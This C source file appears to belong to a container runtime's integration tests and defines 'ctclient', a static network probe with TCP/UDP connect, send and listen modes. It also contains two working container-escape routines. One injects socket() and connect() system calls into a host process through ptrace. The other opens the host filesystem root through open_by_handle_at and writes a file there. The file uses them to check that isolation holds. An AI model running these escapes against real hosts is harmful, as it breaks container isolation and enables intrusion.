// SPDX-License-Identifier: Apache-2.0
/*
 * ctclient: a tiny static network probe for the runtime integration tests and the demo.
 * It runs inside a container rootfs that holds nothing else, so it must not depend on NSS,
 * a dynamic loader or a shell.
 *
 *   ctclient tcp  ADDR PORT            connect(); prints "ok" or the errno name (EPERM, ...)
 *   ctclient udp  ADDR PORT            unconnected sendto() of one datagram (the sendmsg hook)
 *   ctclient udpc ADDR PORT            connected UDP: connect() then send() (the connect hook)
 *   ctclient listen tcp ADDR PORT [S]  accept and answer "hello from ADDR:PORT\n" for S seconds
 *   ctclient listen udp ADDR PORT [S]  receive and count datagrams for S seconds
 *   ctclient sleep S                   the container's init when the rootfs has no busybox
 *   ctclient ptrace PID ADDR PORT      make process PID connect() to ADDR:PORT (IPv4, TCP) by
 *                                      injecting socket() and connect() through ptrace: the
 *                                      attack of a container that can trace a host process
 *                                      (x86_64 only; prints "ok", or STEP ERRNO)
 *   ctclient byhandle DIR PATH         open the root of the filesystem DIR is on by a handle
 *                                      (open_by_handle_at through DIR's mount, ext4's root
 *                                      inode) and write "escaped" to PATH relative to it: the
 *                                      attack of a container holding CAP_DAC_READ_SEARCH
 *                                      (prints "ok", or STEP ERRNO)
 *
 * ADDR is numeric (IPv4 or IPv6). Exit status: 0 "ok", 1 an errno, 2 usage error.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "probe.h"

#define PROBE_TIMEOUT_S 5

static int report(int err)
{
	puts(err ? errname(err) : "ok");
	return err ? 1 : 0;
}

static int probe(const char *kind, const struct sockaddr_storage *ss, socklen_t len)
{
	int tcp = strcmp(kind, "tcp") == 0;
	int fd = socket(ss->ss_family, (tcp ? SOCK_STREAM : SOCK_DGRAM) | SOCK_CLOEXEC, 0);
	static const char msg[] = "netfence-probe\n";
	char buf[64];
	ssize_t n;

	if (fd < 0)
		return report(errno);
	if (!tcp)
		return report(udp_probe(fd, strcmp(kind, "udp") == 0 ? UDP_SENDTO : UDP_CONNECT, ss,
					len, msg, NULL));
	if (connect(fd, (const struct sockaddr *)ss, len) < 0)
		return report(errno);
	/* A connected TCP probe reads the listener's greeting, if any, for the demo's output. */
	struct pollfd pfd = { .fd = fd, .events = POLLIN };
	if (poll(&pfd, 1, 1000) == 1) {
		n = read(fd, buf, sizeof(buf) - 1);
		if (n > 0) {
			buf[n] = '\0';
			buf[strcspn(buf, "\n")] = '\0';
			fprintf(stderr, "ctclient: server said: %s\n", buf);
		}
	}
	return report(0);
}

static int listen_loop(const char *kind, const struct sockaddr_storage *ss, socklen_t len,
		       const char *addr, const char *port, long seconds)
{
	int tcp = strcmp(kind, "tcp") == 0;
	int fd = socket(ss->ss_family, (tcp ? SOCK_STREAM : SOCK_DGRAM) | SOCK_CLOEXEC, 0);
	int one = 1;
	time_t stop = time(NULL) + seconds;
	char greet[128], buf[256];

	if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one)) < 0 ||
	    bind(fd, (const struct sockaddr *)ss, len) < 0 || (tcp && listen(fd, 16) < 0)) {
		fprintf(stderr, "ctclient: listen %s %s %s: %s\n", kind, addr, port,
			errname(errno));
		return 1;
	}
	snprintf(greet, sizeof(greet), "hello from %s:%s\n", addr, port);
	puts("listening");
	fflush(stdout);
	while (time(NULL) < stop) {
		struct pollfd pfd = { .fd = fd, .events = POLLIN };

		if (poll(&pfd, 1, 200) != 1)
			continue;
		if (tcp) {
			int c = accept4(fd, NULL, NULL, SOCK_CLOEXEC);

			if (c < 0)
				continue;
			if (write(c, greet, strlen(greet)) < 0)
				fprintf(stderr, "ctclient: write: %s\n", errname(errno));
			close(c);
		} else if (recv(fd, buf, sizeof(buf), 0) >= 0) {
			fprintf(stderr, "ctclient: datagram received\n");
		}
	}
	close(fd);
	return 0;
}

static int step_failed(const char *step, int err)
{
	printf("%s %s\n", step, errname(err));
	return 1;
}

#ifdef __x86_64__
/* Runs one system call in the stopped tracee, at the syscall instruction just before rip. */
static long inject(pid_t pid, const struct user_regs_struct *saved, long nr, long a1, long a2,
		   long a3)
{
	struct user_regs_struct r = *saved;
	int st;

	r.rip = saved->rip - 2;
	r.rax = nr;
	r.orig_rax = -1; /* no restart of the interrupted call: run ours */
	r.rdi = a1;
	r.rsi = a2;
	r.rdx = a3;
	if (ptrace(PTRACE_SETREGS, pid, 0, &r) < 0 || ptrace(PTRACE_SINGLESTEP, pid, 0, 0) < 0 ||
	    waitpid(pid, &st, __WALL) < 0 || ptrace(PTRACE_GETREGS, pid, 0, &r) < 0)
		return -errno;
	return (long)r.rax;
}

static int ptrace_connect(pid_t pid, const struct sockaddr_in *sin)
{
	struct user_regs_struct saved;
	unsigned long words[2], where;
	long insn, fd, r;
	int st;

	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
		return step_failed("seize", errno);
	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0 || waitpid(pid, &st, __WALL) < 0)
		return step_failed("interrupt", errno);
	if (ptrace(PTRACE_GETREGS, pid, 0, &saved) < 0)
		return step_failed("getregs", errno);
	/* A tracee stopped in a system call sits just after its "syscall" (0f 05). */
	errno = 0;
	insn = ptrace(PTRACE_PEEKTEXT, pid, saved.rip - 2, 0);
	if (errno || (insn & 0xffff) != 0x050f)
		return step_failed("syscall-insn", errno ? errno : ENOEXEC);
	/* The address goes on the tracee's stack, below its red zone. */
	where = (saved.rsp - 1024) & ~15UL;
	memcpy(words, sin, sizeof(*sin));
	if (ptrace(PTRACE_POKEDATA, pid, where, words[0]) < 0 ||
	    ptrace(PTRACE_POKEDATA, pid, where + 8, words[1]) < 0)
		return step_failed("poke", errno);
	fd = inject(pid, &saved, SYS_socket, AF_INET, SOCK_STREAM, 0);
	if (fd < 0)
		return step_failed("socket", (int)-fd);
	r = inject(pid, &saved, SYS_connect, fd, (long)where, sizeof(*sin));
	inject(pid, &saved, SYS_close, fd, 0, 0);
	if (ptrace(PTRACE_SETREGS, pid, 0, &saved) < 0 || ptrace(PTRACE_DETACH, pid, 0, 0) < 0)
		return step_failed("detach", errno);
	return r < 0 ? step_failed("connect", (int)-r) : report(0);
}
#else
static int ptrace_connect(pid_t pid, const struct sockaddr_in *sin)
{
	(void)pid;
	(void)sin;
	puts("ENOSYS");
	return 2;
}
#endif

/* ext4's root directory is inode 2; a generation of 0 is not checked (FILEID_INO32_GEN). */
#define EXT4_ROOT_INO	 2
#define FILEID_INO32_GEN 1

static int byhandle_write(const char *dir, const char *path)
{
	union {
		struct file_handle fh;
		char room[sizeof(struct file_handle) + 2 * sizeof(unsigned int)];
	} h;
	unsigned int ino_gen[2] = { EXT4_ROOT_INO, 0 };
	int mnt, root, fd;

	h.fh.handle_bytes = sizeof(ino_gen);
	h.fh.handle_type = FILEID_INO32_GEN;
	memcpy(h.fh.f_handle, ino_gen, sizeof(ino_gen));
	mnt = open(dir, O_RDONLY | O_DIRECTORY);
	if (mnt < 0)
		return step_failed("open", errno);
	root = open_by_handle_at(mnt, &h.fh, O_RDONLY | O_DIRECTORY);
	if (root < 0)
		return step_failed("open_by_handle_at", errno);
	fd = openat(root, path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
	if (fd < 0)
		return step_failed("openat", errno);
	if (write(fd, "escaped\n", 8) != 8)
		return step_failed("write", errno);
	close(fd);
	puts("ok");
	return 0;
}

static int usage(void)
{
	fputs("usage: ctclient tcp|udp|udpc ADDR PORT\n"
	      "       ctclient listen tcp|udp ADDR PORT [SECONDS]\n"
	      "       ctclient sleep SECONDS\n"
	      "       ctclient ptrace PID ADDR PORT\n"
	      "       ctclient byhandle DIR PATH\n",
	      stderr);
	return 2;
}

int main(int argc, char **argv)
{
	struct sockaddr_storage ss;
	socklen_t len;

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 3 && strcmp(argv[1], "sleep") == 0) {
		/* pause() would do, but a bounded life means a leaked container ends by itself. */
		unsigned long s = strtoul(argv[2], NULL, 10);

		while (s > 0)
			s = sleep((unsigned int)s);
		return 0;
	}
	if (argc >= 5 && strcmp(argv[1], "listen") == 0) {
		long seconds = argc >= 6 ? strtol(argv[5], NULL, 10) : 60;

		if (strcmp(argv[2], "tcp") && strcmp(argv[2], "udp"))
			return usage();
		len = parse_addr(argv[3], argv[4], &ss);
		if (!len || seconds <= 0)
			return usage();
		return listen_loop(argv[2], &ss, len, argv[3], argv[4], seconds);
	}
	if (argc == 4 && strcmp(argv[1], "byhandle") == 0)
		return byhandle_write(argv[2], argv[3]);
	if (argc == 5 && strcmp(argv[1], "ptrace") == 0) {
		len = parse_addr(argv[3], argv[4], &ss);
		if (len != sizeof(struct sockaddr_in))
			return usage();
		alarm(PROBE_TIMEOUT_S);
		return ptrace_connect((pid_t)strtol(argv[2], NULL, 10),
				      (const struct sockaddr_in *)&ss);
	}
	if (argc != 4 ||
	    (strcmp(argv[1], "tcp") && strcmp(argv[1], "udp") && strcmp(argv[1], "udpc")))
		return usage();
	len = parse_addr(argv[2], argv[3], &ss);
	if (!len)
		return usage();
	/* Loopback answers at once; a hang means something is badly wrong, not a verdict. */
	alarm(PROBE_TIMEOUT_S);
	return probe(argv[1], &ss, len);
}
